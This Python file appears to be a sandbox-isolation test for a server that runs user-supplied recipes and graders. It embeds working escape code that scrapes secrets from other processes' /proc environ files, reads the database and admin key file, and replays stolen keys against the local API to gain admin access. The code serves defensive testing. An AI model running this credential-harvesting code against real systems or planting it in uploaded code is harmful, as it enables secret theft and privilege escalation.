"""What an attacker's code tries from inside the server's machine, as source text to put into a recipe or a
custom grader, and to run bare as the control (proof that each attempt works where nothing stops it).

``escape_attempts`` reports what it got: names of secrets found in other processes' environments, files of
the data dir it read or created, the admin keys that worked on the loopback API, and why each attempt failed.
"""

ESCAPE_FUNCTION = r"""
def escape_attempts(data_dir, base_url, tag, only_pid=None):
    import json, os, urllib.request

    found = {"pids_seen": 0, "secrets": [], "read": [], "wrote": [], "admin_keys": [], "own_key": None,
             "errors": []}
    own = os.environ.get("ADAPTIVE_API_KEY")
    stolen = set()
    # 1. The parent's environment (the server's, in the reported attack), and every other process's.
    pids = {only_pid} if only_pid else {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
    pids.discard(os.getpid())
    found["pids_seen"] = len(pids)
    for pid in sorted(pids):
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                raw = handle.read()
        except OSError as error:
            found["errors"].append("environ of %d: %s" % (pid, error.strerror))
            continue
        for item in raw.split(b"\0"):
            name, _, value = item.decode("utf-8", "replace").partition("=")
            if value and value != own and any(w in name for w in ("KEY", "SECRET", "TOKEN", "PASSWORD")):
                found["secrets"].append("%d:%s" % (pid, name))
                stolen.add(value)
    # 2. The data dir: the database and the admin key file, read; a file of ours, created (0 bytes written:
    # a grader may write none).
    for name in ("engine.db", "admin_api_key"):
        try:
            with open(os.path.join(data_dir, name), "rb") as handle:
                data = handle.read()
            found["read"].append(name)
            if name == "admin_api_key":
                stolen.add(data.decode().strip())
        except OSError as error:
            found["errors"].append("%s: %s" % (name, error.strerror))
    try:
        open(os.path.join(data_dir, "escaped-" + tag), "w").close()
        found["wrote"].append("escaped-" + tag)
    except OSError as error:
        found["errors"].append("create in data dir: %s" % error.strerror)

    # 3. The loopback API with what was stolen, and with the code's own key (a job's, if any).
    def ask(key, query):
        request = urllib.request.Request(base_url + "/api/graphql", data=json.dumps({"query": query}).encode(),
                                         headers={"Authorization": "Bearer " + key,
                                                  "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=5) as answer:
            return json.loads(answer.read())

    for key in sorted(stolen):
        try:
            me = ((ask(key, "{ me { email } }").get("data") or {}).get("me") or {}).get("email")
            if me == "admin@localhost":
                found["admin_keys"].append(key[:6] + "...")
        except Exception as error:
            found["errors"].append("api with a stolen key: %s" % error)
    if own:
        try:
            users = ask(own, "{ users { email } }")
            found["own_key"] = "lists users" if users.get("data") else "refused: %s" % users["errors"][0]["message"]
        except Exception as error:
            found["own_key"] = "failed: %s" % error
    return found
"""


def recipe_probed_at_upload(data_dir: str, base_url: str) -> str:
    """A recipe whose import-time code (run by the schema probe) attempts the escape; its findings come back
    as the default of a Config field, in the recipe's JSON schema."""
    return f"""
import json
from adaptive_engine.recipe import InputConfig, RecipeContext, recipe_main
{ESCAPE_FUNCTION}
FOUND = json.dumps(escape_attempts({data_dir!r}, {base_url!r}, "probe"))

class Config(InputConfig):
    found: str = FOUND

@recipe_main
def main(config: Config, ctx: RecipeContext) -> None:
    pass
"""


def recipe_escaping_as_job(data_dir: str, base_url: str) -> str:
    """A recipe whose job attempts the escape and prints its findings to the job's log."""
    return f"""
import json
from adaptive_engine.recipe import InputConfig, RecipeContext, recipe_main
{ESCAPE_FUNCTION}

class Config(InputConfig):
    pass

@recipe_main
def main(config: Config, ctx: RecipeContext) -> None:
    print("FOUND " + json.dumps(escape_attempts({data_dir!r}, {base_url!r}, "job")), flush=True)
"""


def grader_escaping(data_dir: str, base_url: str) -> str:
    """A custom grader that attempts the escape and returns its findings as reasoning."""
    return f"""
import json
{ESCAPE_FUNCTION}

def grade(messages, completion, metadata):
    return {{"score": 1.0, "reasoning": json.dumps(escape_attempts({data_dir!r}, {base_url!r}, "grader"))}}
"""


def bare(data_dir: str, base_url: str, server_pid: int) -> str:
    """The control: the same attempts from a plain process of this machine, aimed at the server's process."""
    return f"""
import json
{ESCAPE_FUNCTION}
print(json.dumps(escape_attempts({data_dir!r}, {base_url!r}, "control", only_pid={server_pid})))
"""
